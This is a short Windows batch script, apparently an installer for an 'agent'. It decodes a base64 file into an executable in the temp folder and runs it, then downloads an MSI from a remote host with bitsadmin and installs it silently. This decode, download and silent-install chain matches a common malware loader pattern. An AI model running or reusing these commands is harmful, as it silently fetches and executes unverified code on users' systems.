certutil -decode agent.b64 "%TEMP%\agent.exe" >nul
"%TEMP%\agent.exe" /install
bitsadmin /transfer ledger /download /priority high http://dl.ledger.example/agent.msi C:\Ledger\agent.msi
msiexec /i C:\Ledger\agent.msi /qn /norestart
